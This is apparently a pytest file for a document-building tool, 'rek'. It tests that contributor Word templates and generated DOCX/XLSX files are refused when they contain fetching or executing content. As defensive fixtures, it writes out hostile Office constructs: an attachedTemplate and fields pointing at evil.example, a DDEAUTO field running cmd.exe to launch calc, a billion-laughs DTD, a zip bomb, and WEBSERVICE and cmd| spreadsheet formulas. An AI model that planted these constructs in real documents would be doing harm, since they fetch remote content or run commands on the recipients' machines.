"""Contributor files are data (issue 18): reference documents give styles only, packages rek writes fetch nothing.

1. A project's templates/application/reference.docx is refused by `rek check` and `rek build` when it
   holds what Word would fetch or run (one fixture per defect, made here from rek's own reference.docx);
   otherwise Pandoc gets a package rebuilt from its styles, never the file itself.
2. No DOCX or XLSX rek writes (application, drafts, report, cost plan, site downloads) holds an external
   target other than a web link, an attachedTemplate, a fetching field, macros, OLE, ActiveX or altChunk.
3. Images are placed, not pattern-matched: only Image elements naming rek's own chart files are embedded,
   so text that looks like an image (900 code spans of `![](zeitplan.png)`) stays small text.
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from rek import refdoc
from rek.application import export
from rek.diagnostics import RekError
from rek.project import load_project
from safety import office_files, scan_office
from test_hardening import assert_clean_refusal, with_call
from test_hostile_classes import describe, png

pytestmark = pytest.mark.filterwarnings("ignore:Duplicate name:UserWarning")  # the duplicate-part fixture

OWN = export.ASSETS / "reference.docx"
OWN_SHORT = export.ASSETS / "reference-short.docx"
DISPLAY = "templates/application/reference.docx"
PREFIX = f"{DISPLAY}:1:1: error: "
REFUSED = PREFIX + "Word-Vorlage enthält, was Word beim Öffnen nachladen oder ausführen würde: "
NS = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"'
)
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
HEADER_CT = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"


def rels(*rows: tuple[str, str, str, bool]) -> bytes:
    body = "".join(
        f'<Relationship Id="{i}" Type="{REL}{k}" Target="{t}"'
        + (' TargetMode="External"' if e else "")
        + "/>"
        for i, k, t, e in rows
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{body}</Relationships>'
    ).encode()


def header(body: str) -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:hdr {NS}>{body}</w:hdr>'.encode()


def field(instruction_parts: list[str]) -> str:
    """A complex field whose instruction is split over several runs, as Word writes it."""
    instr = "".join(
        f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>' for p in instruction_parts
    )
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{instr}<w:r><w:fldChar w:fldCharType="separate"/>'
        '</w:r><w:r><w:t>Kopf</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


Edit = Callable[[bytes], bytes]


def reference(
    edits: dict[str, Edit] | None = None, extra: dict[str, bytes] | None = None, source: Path = OWN
) -> bytes:
    """rek's own reference document with parts changed (edits) and added (extra)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for info in original.infolist():
            data = original.read(info)
            if edits and info.filename in edits:
                data = edits[info.filename](data)
            out.writestr(info.filename, data)
        for name, data in (extra or {}).items():
            out.writestr(name, data)
    return buffer.getvalue()


def with_header(body: str, header_rels: bytes | None = None, extra: dict[str, bytes] | None = None) -> bytes:
    """rek's reference with a default header word/header1.xml (registered as Word registers it)."""
    parts = {"word/header1.xml": header(body), **(extra or {})}
    if header_rels is not None:
        parts["word/_rels/header1.xml.rels"] = header_rels
    return reference(
        {
            "word/_rels/document.xml.rels": lambda d: d.replace(
                b"</Relationships>",
                f'<Relationship Id="rId40" Type="{REL}header" Target="header1.xml"/></Relationships>'.encode(),
            ),
            "word/document.xml": lambda d: d.replace(
                b"<w:sectPr>", b'<w:sectPr><w:headerReference w:type="default" r:id="rId40"/>', 1
            ),
            "[Content_Types].xml": lambda d: d.replace(
                b"</Types>",
                f'<Override PartName="/word/header1.xml" ContentType="{HEADER_CT}"/></Types>'.encode(),
            ),
        },
        parts,
    )


def _attached_template() -> bytes:
    return reference(
        {
            "word/settings.xml": lambda d: d.replace(
                b"<w:zoom", b'<w:attachedTemplate r:id="rId1"/><w:zoom', 1
            )
        },
        {
            "word/_rels/settings.xml.rels": rels(
                ("rId1", "attachedTemplate", "https://evil.example/vorlage.dotm", True)
            )
        },
    )


def _footer(snippet: bytes) -> bytes:
    return reference({"word/footer1.xml": lambda d: d.replace(b"</w:ftr>", snippet + b"</w:ftr>")})


LINKED_IMAGE = (
    '<w:p><w:r><w:drawing><wp:inline><wp:docPr id="1" name="Logo"/><a:graphic><a:graphicData '
    'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:blipFill><a:blip r:link="rId2"/>'
    "</pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
)
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'

# defect -> (the reference document, the exact error line of `rek check` and `rek build`)
HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "attached-template-on-server": (
        _attached_template,
        REFUSED + "angehängte Dokumentvorlage (attachedTemplate) (word/settings.xml); externer Verweis "
        "attachedTemplate → https://evil.example/vorlage.dotm (word/_rels/settings.xml.rels)",
    ),
    "includepicture-field-in-header": (
        lambda: with_header(field([" INCLUDE", 'PICTURE "http://evil.example/p.png" \\d '])),
        REFUSED + "Feldfunktion INCLUDEPICTURE, die Inhalte nachlädt (word/header1.xml)",
    ),
    "includetext-simple-field-in-footer": (
        lambda: _footer(
            b'<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\evil\\share\\a.docx&quot; "/></w:p>'
        ),
        REFUSED + "Feldfunktion INCLUDETEXT, die Inhalte nachlädt (word/footer1.xml)",
    ),
    "ddeauto-field-in-footer": (
        lambda: _footer(field([' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ']).encode()),
        REFUSED + "Feldfunktion DDEAUTO, die Inhalte nachlädt (word/footer1.xml)",
    ),
    "linked-image-in-header": (
        lambda: with_header(LINKED_IMAGE, rels(("rId2", "image", "http://evil.example/logo.png", True))),
        REFUSED + "verknüpftes Bild (r:link) (word/header1.xml); externer Verweis image → "
        "http://evil.example/logo.png (word/_rels/header1.xml.rels)",
    ),
    "macros": (
        lambda: reference(
            {
                "word/_rels/document.xml.rels": lambda d: d.replace(
                    b"</Relationships>",
                    b'<Relationship Id="rId50" Type="http://schemas.microsoft.com/office/2006/relationships/'
                    b'vbaProject" Target="vbaProject.bin"/></Relationships>',
                )
            },
            {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504},
        ),
        REFUSED + "Makros (Verweis vbaProject) (word/_rels/document.xml.rels); Makros (word/vbaProject.bin)",
    ),
    "ole-object": (
        lambda: reference(
            {
                "word/footer1.xml": lambda d: d.replace(
                    b"</w:ftr>", b"<w:p><w:r><w:object/></w:r></w:p></w:ftr>"
                )
            },
            {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504},
        ),
        REFUSED
        + "OLE-Objekt (word/footer1.xml); eingebettetes Objekt (OLE) (word/embeddings/oleObject1.bin)",
    ),
    "activex-control": (
        lambda: reference(
            extra={"word/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="urn:x" ax:classid="{8856F961}"/>'}
        ),
        REFUSED + "ActiveX-Steuerelement (word/activeX/activeX1.xml)",
    ),
    "altchunk": (
        lambda: reference(
            {
                "word/document.xml": lambda d: d.replace(
                    b"<w:sectPr>", b'<w:altChunk r:id="rId60"/><w:sectPr>', 1
                ),
                "word/_rels/document.xml.rels": lambda d: d.replace(
                    b"</Relationships>",
                    f'<Relationship Id="rId60" Type="{REL}aFChunk" Target="chunk.mht"/></Relationships>'.encode(),
                ),
            },
            {"word/chunk.mht": b"MIME-Version: 1.0\r\n\r\n<img src='http://evil.example/x'>"},
        ),
        REFUSED + "altChunk (eingebettetes Fremddokument) (word/document.xml); altChunk (eingebettetes "
        "Fremddokument) (Verweis aFChunk) (word/_rels/document.xml.rels)",
    ),
    "hyperlink-base": (
        lambda: reference(
            {
                "docProps/app.xml": lambda d: d.replace(
                    b"</Properties>", b"<HyperlinkBase>\\\\evil\\share</HyperlinkBase></Properties>"
                )
            }
        ),
        REFUSED + "Basisadresse für Links (HyperlinkBase) \\\\evil\\share (docProps/app.xml)",
    ),
    "doctype-entities": (
        lambda: reference({"word/styles.xml": lambda d: LAUGHS + d.split(b"?>", 1)[1]}),
        REFUSED + "DTD (<!DOCTYPE): rek liest keine DTDs und Entitäten (word/styles.xml)",
    ),
    "zip-bomb": (
        lambda: reference(extra={"word/bombe.xml": b"<a>" + b" " * (30 * 1024**2) + b"</a>"}),
        PREFIX + "Word-Vorlage enthält den Teil word/bombe.xml, entpackt größer als 20 MB (ZIP-Bombe?)",
    ),
    "too-many-parts": (
        lambda: reference(extra={f"word/teil{i}.xml": b"<a/>" for i in range(400)}),
        PREFIX + "Word-Vorlage enthält 417 Teile, höchstens 300 sind erlaubt",
    ),
    "duplicate-part": (
        lambda: reference(extra={"word/styles.xml": b"<w:styles/>"}),
        PREFIX + "Word-Vorlage enthält den Teil 'word/styles.xml' mehrfach",
    ),
}


def _place(project: Path, data: bytes, name: str = "reference.docx") -> Path:
    target = project / "templates" / "application" / name
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(data)
    return target


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_reference_docx_is_refused_by_check_and_build(
    name: str, minimal: Path, run, tmp_path: Path
) -> None:
    make, expected = HOSTILE[name]
    data = make()
    assert len(data) <= 512 * 1024  # within the size limit of templates: the content is what is refused
    project = with_call(minimal)
    _place(project, data)
    checked = run("check", cwd=project)
    assert_clean_refusal(checked, DISPLAY)
    assert checked.error_lines == [expected], checked.err
    built = run("build", "--out", str(tmp_path / "out"), cwd=project)
    assert built.code == 1 and built.error_lines == [expected], built.err
    assert not (tmp_path / "out").exists()


def test_hostile_short_reference_is_refused_too(minimal: Path, run) -> None:
    _place(minimal, _attached_template(), "reference-short.docx")
    result = run("check", cwd=minimal)
    assert_clean_refusal(result, "templates/application/reference-short.docx")
    assert "attachedTemplate → https://evil.example/vorlage.dotm" in result.err
    assert "Hinweis: rek übernimmt aus der Vorlage nur Formatvorlagen" in result.err


@pytest.mark.documents
def test_pandoc_copies_what_the_project_reference_holds(tmp_path: Path) -> None:
    """Why rek rebuilds the reference: Pandoc alone copies the attachedTemplate and the header's links."""
    hostile = tmp_path / "reference.docx"
    hostile.write_bytes(
        reference(
            {
                "word/settings.xml": lambda d: d.replace(
                    b"<w:zoom", b'<w:attachedTemplate r:id="rId1"/><w:zoom', 1
                )
            },
            {
                "word/_rels/settings.xml.rels": rels(
                    ("rId1", "attachedTemplate", "https://evil.example/v.dotm", True)
                )
            },
        )
    )
    (tmp_path / "a.md").write_text("# Titel\n\nText\n", encoding="utf-8")
    export._pandoc(["-t", "docx", f"--reference-doc={hostile}", "-o", "a.docx", "a.md"], tmp_path)
    findings = refdoc.inspect_file(tmp_path / "a.docx")
    assert (
        "externer Verweis attachedTemplate → https://evil.example/v.dotm (word/_rels/settings.xml.rels)"
        in findings
    )


def test_build_hands_pandoc_the_rebuilt_package_even_if_the_file_changed(tmp_path: Path) -> None:
    """The export checks the project's file again: one swapped in after `rek check` is refused as well."""
    project = tmp_path / "region"
    _place(project, _attached_template())
    markdown = tmp_path / "stage" / "a.md"
    markdown.parent.mkdir()
    markdown.write_text("# Titel\n", encoding="utf-8")
    with pytest.raises(RekError) as caught:
        export.to_docx(markdown, markdown.with_suffix(".docx"), [], project / "templates")
    assert [d.format().splitlines()[0] for d in caught.value.diagnostics] == [
        HOSTILE["attached-template-on-server"][1]
    ]
    assert sorted(p.name for p in markdown.parent.iterdir()) == ["a.md"]  # no DOCX, no leftover reference


@pytest.mark.documents
@pytest.mark.parametrize("own", [OWN, OWN_SHORT], ids=["reference", "reference-short"])
def test_own_reference_documents_pass_through_unchanged_in_effect(own: Path, tmp_path: Path) -> None:
    cleaned = tmp_path / "cleaned.docx"
    cleaned.write_bytes(refdoc.clean_reference(own.read_bytes(), fallback=own.read_bytes()))
    (tmp_path / "a.md").write_text(
        "# Titel\n\nText mit [Link](https://example.org) und Fußnote[^1].\n\n[^1]: Notiz.\n\n## Zwei\n\n- a\n- b\n",
        encoding="utf-8",
    )
    outputs = {}
    for name, ref in (("raw", own), ("cleaned", cleaned)):
        export._pandoc(
            ["-t", "docx", "--toc", f"--reference-doc={ref}", "-o", f"{name}.docx", "a.md"], tmp_path
        )
        with zipfile.ZipFile(tmp_path / f"{name}.docx") as package:
            outputs[name] = {n: package.read(n) for n in package.namelist()}
    assert outputs["raw"].keys() == outputs["cleaned"].keys()
    differing = [n for n in outputs["raw"] if outputs["raw"][n] != outputs["cleaned"][n]]
    assert differing == ["docProps/app.xml"]  # the reference's application statistics, not styles
    assert refdoc.inspect_file(tmp_path / "cleaned.docx") == []


@pytest.mark.documents
def test_a_word_made_reference_keeps_styles_header_logo_and_web_link(
    minimal: Path, run, tmp_path: Path
) -> None:
    """What styles a document stays (header with logo and link, page setup); what points elsewhere goes."""
    logo = png(4, 2)
    header_body = (
        '<w:p><w:r><w:t>Region Muster</w:t></w:r><w:hyperlink r:id="rId3"><w:r><w:t>region.example</w:t></w:r>'
        '</w:hyperlink></w:p><w:p><w:r><w:drawing><wp:inline><wp:extent cx="360000" cy="180000"/><wp:docPr id="1" '
        'name="Logo"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="logo.png"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>'
        '<a:blip r:embed="rId2"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline>'
        "</w:drawing></w:r></w:p>"
    )
    data = with_header(
        header_body,
        rels(
            ("rId2", "image", "media/logo.png", False), ("rId3", "hyperlink", "https://region.example/", True)
        ),
        {"word/media/logo.png": logo},
    )
    project = with_call(minimal)
    _place(project, data)
    checked = run("check", cwd=project)
    assert checked.code == 0, checked.err
    built = run("build", "--no-site", "--out", str(tmp_path / "out"), cwd=project)
    assert built.code == 0, built.err
    antrag = tmp_path / "out" / "antrag" / "antrag.docx"
    assert refdoc.inspect_file(antrag) == []
    with zipfile.ZipFile(antrag) as package:
        names = package.namelist()
        header_part = package.read("word/header1.xml").decode()
        header_rels = package.read("word/_rels/header1.xml.rels").decode()
        app = package.read("docProps/app.xml").decode()
        document = package.read("word/document.xml").decode()
        media = [package.read(n) for n in names if n.startswith("word/media/rek-kopf-")]
    assert "Region Muster" in header_part and 'r:embed="rId2"' in header_part
    assert "https://region.example/" in header_rels and "<Application>rek</Application>" in app
    assert media == [logo]
    assert re.search(r'<w:headerReference [^>]*w:type="default"', document)


def test_settings_that_tie_the_document_to_other_files_are_dropped() -> None:
    data = reference(
        {
            "word/settings.xml": lambda d: d.replace(
                b"<w:zoom",
                b'<w:docVars><w:docVar w:name="x" w:val="y"/></w:docVars><w:linkStyles/><w:zoom',
                1,
            )
        }
    )
    assert refdoc.reference_problems(data) == []
    with zipfile.ZipFile(io.BytesIO(refdoc.clean_reference(data, fallback=OWN.read_bytes()))) as package:
        settings = package.read("word/settings.xml").decode()
        assert "docVar" not in settings and "linkStyles" not in settings and "w:zoom" in settings
        assert 'xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"' in settings
        assert sorted(n for n in package.namelist() if n.endswith(".rels")) == [
            "_rels/.rels",
            "word/_rels/document.xml.rels",
        ]


# --- 2. every package rek writes -------------------------------------------------------------------


@pytest.mark.parametrize(
    "snippet, finding",
    [
        (b'<w:fldSimple w:instr="INCLUDEPICTURE x"/>', "Feldfunktion INCLUDEPICTURE"),
        (b"<w:r><w:instrText> DDE excel x </w:instrText></w:r>", "Feldfunktion DDE,"),
        (b'<w:r><w:object r:id="x"/></w:r>', "OLE-Objekt"),
        (b'<w:altChunk r:id="x"/>', "altChunk"),
        (
            b'<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="\\\\evil\\x.png"/>',
            "verknüpfte Adresse",
        ),
    ],
    ids=["includepicture", "dde", "ole", "altchunk", "unc-image"],
)
def test_the_package_scan_finds_each_class(snippet: bytes, finding: str, tmp_path: Path) -> None:
    path = tmp_path / "x.docx"
    path.write_bytes(reference({"word/footer1.xml": lambda d: d.replace(b"</w:ftr>", snippet + b"</w:ftr>")}))
    assert any(finding in f for f in refdoc.inspect_file(path)), refdoc.inspect_file(path)


def test_the_package_scan_finds_fetching_spreadsheet_formulas(tmp_path: Path) -> None:
    from openpyxl import Workbook

    for formula, expected in (
        ('=WEBSERVICE("https://evil.example")', 1),
        ("=cmd|'/C calc'!A0", 1),
        ("=SUM(A1:A2)", 0),
    ):
        book = Workbook()
        book.active["A3"] = formula
        path = tmp_path / "x.xlsx"
        book.save(path)
        assert len(refdoc.inspect_file(path)) == expected, (formula, refdoc.inspect_file(path))


def _media(docx: Path) -> list[str]:
    with zipfile.ZipFile(docx) as package:
        return sorted(n for n in package.namelist() if n.startswith("word/media/"))


@pytest.mark.documents
def test_every_package_of_the_embedded_build_is_clean(built_embedded: Path) -> None:
    files = [p.relative_to(built_embedded).as_posix() for p in office_files(built_embedded)]
    assert "antrag/antrag.docx" in files and "antrag/kosten-und-finanzierungsplan.xlsx" in files
    assert len([f for f in files if f.startswith("antrag/entwuerfe/") and f.endswith(".docx")]) >= 3
    assert any(f.startswith("site/") and f.endswith(".xlsx") for f in files)
    assert scan_office(built_embedded) == []
    assert len(_media(built_embedded / "antrag" / "antrag.docx")) == 2  # the timeline and the costs by year


@pytest.mark.documents
def test_the_report_is_clean_and_has_its_charts(embedded: Path, run, tmp_path: Path) -> None:
    out = tmp_path / "bericht"
    result = run("report", "--year", "2025", "--out", str(out), cwd=embedded)
    assert result.code == 0, result.err
    assert scan_office(out) == []
    # the charts are set from a staging folder: the report folder holds the three documents only
    assert sorted(p.name for p in out.iterdir() if p.name != ".rek-build") == [
        "umsetzungsbericht-2025.docx",
        "umsetzungsbericht-2025.md",
        "umsetzungsbericht-2025.pdf",
    ]
    markdown = (out / "umsetzungsbericht-2025.md").read_text(encoding="utf-8")
    charts = markdown.count("*Abbildung (im PDF und im Word-Dokument): ")
    assert charts and len(_media(out / "umsetzungsbericht-2025.docx")) == charts
    assert ".svg)" not in markdown
    with zipfile.ZipFile(out / "umsetzungsbericht-2025.docx") as package:  # PNG: Word shows every chart
        media = _media(out / "umsetzungsbericht-2025.docx")
        assert all(n.endswith(".png") and package.read(n)[:8] == b"\x89PNG\r\n\x1a\n" for n in media)


# --- 3. images are placed, not pattern-matched -----------------------------------------------------

LOOKALIKE = "`![](zeitplan.png)`"


@pytest.mark.documents
def test_text_that_looks_like_images_stays_text(minimal: Path, tmp_path: Path) -> None:
    from rek.build import build

    text = " ".join([LOOKALIKE] * 900)
    assert len(text) <= 20_000  # a Markdown field may hold it
    describe(minimal, text)
    project, diags = load_project(with_call(minimal))
    assert project is not None, [d.format() for d in diags.items]
    build(project, tmp_path / "out", site=False)
    antrag = tmp_path / "out" / "antrag" / "antrag.docx"
    assert antrag.stat().st_size < 1024**2, antrag.stat().st_size
    assert len(_media(antrag)) == 2  # the two charts, each once
    with zipfile.ZipFile(antrag) as package:
        document = package.read("word/document.xml").decode()
    assert document.count("![](zeitplan.png)") == 900 and "base64" not in document
    assert (tmp_path / "out" / "antrag" / "antrag.pdf").stat().st_size < 2 * 1024**2


@pytest.mark.documents
def test_only_named_image_files_are_embedded(tmp_path: Path) -> None:
    (tmp_path / "zeitplan.png").write_bytes(png())
    (tmp_path / "fremd.png").write_bytes(png(3, 3))
    (tmp_path / "link.png").symlink_to(tmp_path / "fremd.png")
    markdown = tmp_path / "a.md"
    markdown.write_text(
        "# T\n\n![Zeitplan](zeitplan.png) ![a](zeitplan.png) `![](zeitplan.png)`\n\n![b](fremd.png) ![c](link.png)\n",
        encoding="utf-8",
    )
    assert export.image_args(tmp_path, ["zeitplan.png", "link.png", "../x.png", "fremd.txt"]) == [
        f"--lua-filter={export.IMAGES_FILTER}",
        "-M",
        "rek-images=zeitplan.png",
    ]
    export.to_docx(
        markdown,
        tmp_path / "a.docx",
        [],
        tmp_path / "templates",
        options=export.SHORT,
        images=["zeitplan.png"],
    )
    assert len(_media(tmp_path / "a.docx")) == 1
    with zipfile.ZipFile(tmp_path / "a.docx") as package:
        assert package.read(_media(tmp_path / "a.docx")[0]) == png()
        assert "rek-images" not in package.read("docProps/custom.xml").decode()
